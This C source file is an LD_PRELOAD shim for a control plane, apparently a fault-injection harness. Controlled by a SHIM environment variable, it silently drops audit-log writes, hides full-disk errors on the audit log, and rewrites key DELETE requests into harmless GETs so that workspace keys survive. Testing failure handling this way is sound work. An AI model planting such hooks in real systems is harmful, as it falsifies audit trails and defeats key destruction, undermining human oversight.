// Loaded into the control plane: what it is to do is left undone, as the words of SHIM say.
//   keys       keys of workspaces are not destroyed
//   records    the audit log's records are lost
//   full-disk  a full disk is not noticed
#define _GNU_SOURCE
#include <dlfcn.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <unistd.h>

static int off(const char *word) {
  const char *words = getenv("SHIM");
  return words && strstr(words, word);
}

static int is_log(int fd) {
  char name[64], path[4096];
  snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
  ssize_t count = readlink(name, path, sizeof path - 1);
  if (count < 0) return 0;
  path[count] = 0;
  return strstr(path, "/audit/records.log") != NULL;
}

static ssize_t log_write(int fd, const void *bytes, size_t count, off_t place) {
  static ssize_t (*real)(int, const void *, size_t, off_t);
  if (!real) real = dlsym(RTLD_NEXT, "pwrite64");
  if (off("records") && is_log(fd)) return count;
  ssize_t result = real(fd, bytes, count, place);
  return result < 0 && errno == ENOSPC && off("full-disk") && is_log(fd) ? (ssize_t)count : result;
}
ssize_t pwrite(int fd, const void *bytes, size_t count, off_t place) { return log_write(fd, bytes, count, place); }
ssize_t pwrite64(int fd, const void *bytes, size_t count, off_t place) { return log_write(fd, bytes, count, place); }

// "DELETE /v1/transit/keys/X HTTP" becomes "GET /v1/transit/keys/X?aa HTTP", which is as long.
static void spare_keys(char *text, size_t count) {
  static const char verb[] = "DELETE /v1/transit/keys/volume-";
  if (!off("keys") || count < sizeof verb) return;
  char *start = memmem(text, count, verb, sizeof verb - 1);
  if (!start) return;
  char *path = start + 7, *end = memchr(path, ' ', text + count - path);
  if (!end) return;
  size_t length = end - path;
  memmove(start + 4, path, length);
  memcpy(start, "GET ", 4);
  memcpy(start + 4 + length, "?aa", 3);
}

ssize_t write(int fd, const void *bytes, size_t count) {
  static ssize_t (*real)(int, const void *, size_t);
  if (!real) real = dlsym(RTLD_NEXT, "write");
  spare_keys((char *)bytes, count);
  return real(fd, bytes, count);
}

ssize_t writev(int fd, const struct iovec *parts, int count) {
  static ssize_t (*real)(int, const struct iovec *, int);
  if (!real) real = dlsym(RTLD_NEXT, "writev");
  for (int i = 0; i < count; i++) spare_keys(parts[i].iov_base, parts[i].iov_len);
  return real(fd, parts, count);
}
